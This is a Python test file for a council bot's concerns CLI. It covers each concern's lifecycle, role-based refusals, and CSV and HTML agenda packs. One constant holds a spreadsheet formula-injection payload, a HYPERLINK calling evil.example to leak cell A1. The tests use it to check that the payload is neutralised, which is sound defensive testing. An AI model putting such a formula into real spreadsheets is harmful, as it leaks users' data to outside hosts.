"""`kpibot concerns ...` on the sample council: a concern's life at the terminal, refusals that
name the role, and the meeting's agenda pack as CSV (safe to open in a spreadsheet) and HTML."""

from __future__ import annotations

import csv
import json
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
import time_machine
import typer
from typer.testing import CliRunner, Result

from bot.commands.concerns import register
from bot.runtime import open_runtime
from bot.settings import Settings
from data import outbox

LONDON = ZoneInfo("Europe/London")
MEMBER, OTHER_MEMBER, ADVISOR = "U0DEMOMEMB1", "U0DEMOMEMB2", "U0DEMOGOV01"
SEND_OFFICER, CARE_OFFICER = "U0DEMOSVC01", "U0DEMOSVC02"
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the figures")'


def kpibot(url: str, at: datetime, *args: str) -> Result:
    app = typer.Typer()
    register(app)
    with time_machine.travel(at, tick=False):
        return CliRunner().invoke(app, ["concerns", *args, "--database-url", url])


def london(*parts: int) -> datetime:
    return datetime(*parts, tzinfo=LONDON)  # type: ignore[misc]


def test_a_concerns_life_at_the_terminal_and_its_agenda_pack(sample_store_url: str, tmp_path: Path) -> None:
    url = sample_store_url
    monday = london(2026, 11, 2, 10, 0)
    raised = kpibot(url, monday, "raise", "--as", MEMBER, "--indicator", "SEND-01", HOSTILE, "--json")
    assert raised.exit_code == 0, raised.output
    assert json.loads(raised.stdout)["id"] == 1
    again = kpibot(url, monday, "raise", "--as", MEMBER, "--indicator", "SEND-01", HOSTILE, "--json")
    assert json.loads(again.stdout)["id"] == 1  # the same submission raises once
    kpibot(url, monday, "raise", "--as", OTHER_MEMBER, "Why are care leavers not in touch?")

    # Members see only their own; the advisor sees both.
    mine = json.loads(kpibot(url, monday, "list", "--as", OTHER_MEMBER, "--json").stdout)
    assert [c["id"] for c in mine["concerns"]] == [2]
    every = json.loads(kpibot(url, monday, "list", "--as", ADVISOR, "--json").stdout)
    assert [c["id"] for c in every["concerns"]] == [1, 2]
    hidden = kpibot(url, monday, "show", "C-1", "--as", OTHER_MEMBER)
    assert hidden.exit_code == 1 and "There is no concern C-1 that you can see" in hidden.output
    assert "HYPERLINK" not in hidden.output

    # Refusals name the role needed.
    refused = kpibot(url, monday, "send", "C-1", "SEND", "--as", MEMBER)
    assert (
        refused.exit_code == 1
        and "Only the governance advisor can send a concern to a service." in refused.output
    )
    sent = kpibot(url, monday, "send", "C-1", "SEND", "--note", "Please answer", "--as", ADVISOR, "--json")
    assert sent.exit_code == 0, sent.output
    assert json.loads(sent.stdout)["due_on"] == "2026-11-16"
    not_theirs = kpibot(url, monday, "answer", "C-1", "Not ours", "--as", CARE_OFFICER)
    assert not_theirs.exit_code == 1 and "There is no concern C-1" in not_theirs.output
    answered = kpibot(
        url, london(2026, 11, 10, 9, 0), "answer", "C-1", "Two more caseworkers.", "--as", SEND_OFFICER
    )
    assert answered.exit_code == 0, answered.output

    # Escalated on 20 November: the 8 December meeting (agenda deadline 27 November).
    escalated = kpibot(
        url,
        london(2026, 11, 20, 9, 0),
        "escalate",
        "C-1",
        "--note",
        "Officer to attend",
        "--as",
        ADVISOR,
        "--json",
    )
    assert json.loads(escalated.stdout)["meeting"] == "2026-12-08"
    # The other, escalated after that deadline, goes to the following meeting.
    unsaid = kpibot(url, london(2026, 11, 30, 9, 0), "escalate", "C-2", "--as", ADVISOR, "--json")
    assert unsaid.exit_code == 1 and "Say why it goes to the commission" in unsaid.output
    late = kpibot(url, london(2026, 11, 30, 9, 0), "escalate", "C-2", "--note", "Persistent", "--as", ADVISOR,
                  "--json")
    assert json.loads(late.stdout)["meeting"] == "2027-01-26"
    too_soon = kpibot(url, london(2026, 12, 1, 9, 0), "close", "C-1", "Discussed", "--as", ADVISOR)
    assert too_soon.exit_code == 1 and "close it after the meeting" in too_soon.output

    # The pack for 8 December as CSV: one concern, with the card, the answer and its history.
    pack = tmp_path / "pack.csv"
    made = kpibot(
        url,
        london(2026, 12, 1, 9, 0),
        "agenda",
        "--meeting",
        "2026-12-08",
        "--format",
        "csv",
        "--output",
        str(pack),
    )
    assert made.exit_code == 0, made.output
    with pack.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == 1
    row = rows[0]
    assert row["Concern"] == "C-1" and row["Raised by"] == MEMBER
    assert row["The concern"] == "'" + HOSTILE  # shown as text, never run as a formula
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    assert row["The service's answer"] == "Two more caseworkers."
    assert row["Service area"] == "SEND" and row["Reason for escalation"] == "Officer to attend"
    assert "EHC plans" in row["About"] and row["The figure when raised"]
    assert row["Raised"] == "2 November 2026"
    # Every step dated and said in words; no state-machine word anywhere in the pack.
    assert row["History"].splitlines() == [
        f"Raised by {MEMBER} on 2 November 2026.",
        f"Sent to SEND by {ADVISOR} on 2 November 2026, for a written answer by 16 November 2026. "
        "Note for the service: “Please answer”",
        f"Answered by {SEND_OFFICER} on 10 November 2026.",
        f"Escalated to the Children and Young People Scrutiny Commission meeting on 8 December 2026 "
        f"by {ADVISOR} on 20 November 2026.",
    ]
    text = pack.read_text(encoding="utf-8")
    assert not any(word in text for word in ("with_service", "->", "answered -> escalated"))

    page = kpibot(
        url, london(2026, 12, 1, 9, 0), "agenda", "--meeting", "2026-12-08", "--format", "html"
    ).stdout
    assert '<h2 id="c1">Item 1. C-1: ' in page and "Two more caseworkers." in page
    assert "Officer to attend" in page and "This pack was prepared on 1 December 2026." in page
    assert "=HYPERLINK(&#34;http://evil.example/?leak=&#34;&amp;A1" in page  # escaped, as text
    assert '<a href="http' not in page  # the member's words never become a link
    assert "with_service" not in page and "-&gt;" not in page

    # After the meeting, closed with its outcome.
    closed = kpibot(
        url,
        london(2026, 12, 9, 9, 0),
        "close",
        "C-1",
        "Officer to report back in March",
        "--as",
        ADVISOR,
        "--json",
    )
    assert closed.exit_code == 0 and json.loads(closed.stdout)["status"] == "closed"
    shown = json.loads(kpibot(url, london(2026, 12, 9, 9, 0), "show", "1", "--as", MEMBER, "--json").stdout)
    assert [e["step"] for e in shown["events"]] == ["raise", "send", "answer", "escalate", "close"]


def test_an_agenda_for_a_day_without_a_meeting_says_which_meetings_there_are(sample_store_url: str) -> None:
    result = kpibot(sample_store_url, london(2026, 11, 2, 10, 0), "agenda", "--meeting", "2026-12-09")
    assert result.exit_code == 1
    assert "There is no meeting on 2026-12-09" in result.output and "2026-12-08" in result.output


def test_a_step_at_the_terminal_queues_its_message_and_publish_due_without_slack_leaves_it_waiting(
    sample_store_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from bot.commands.approval import register as register_scorecard

    monkeypatch.delenv("SLACK_BOT_TOKEN", raising=False)  # no Slack here: messages must wait
    url = sample_store_url
    monday = london(2026, 11, 2, 10, 0)
    raised = kpibot(url, monday, "raise", "--as", MEMBER, "--indicator", "SEND-01", "SEND is slipping")
    assert f"Queued 2 direct messages to {ADVISOR}, {MEMBER}" in raised.stderr
    sent = kpibot(url, monday, "send", "C-1", "SEND", "--as", ADVISOR, "--json")
    assert json.loads(sent.stdout)["status"] == "with_service"  # stdout is the answer alone
    assert f"Queued 1 direct message to {SEND_OFFICER}" in sent.stderr and "publish-due" in sent.stderr

    app = typer.Typer()
    register_scorecard(app)
    with time_machine.travel(london(2026, 11, 2, 10, 5), tick=False):
        first = CliRunner().invoke(app, ["scorecard", "publish-due", "--database-url", url])
        second = CliRunner().invoke(app, ["scorecard", "publish-due", "--database-url", url])
    assert first.exit_code == 0, first.output
    # Without a Slack token nothing addressed to Slack is consumed: both rounds say it waits.
    for round_ in (first, second):
        assert "3 messages wait for Slack, unsent" in round_.stdout and "SLACK_BOT_TOKEN" in round_.stdout
    with open_runtime(Settings(database_url=url)).session() as session:
        assert {item.status.value for item in outbox.items(session)} == {"pending"}
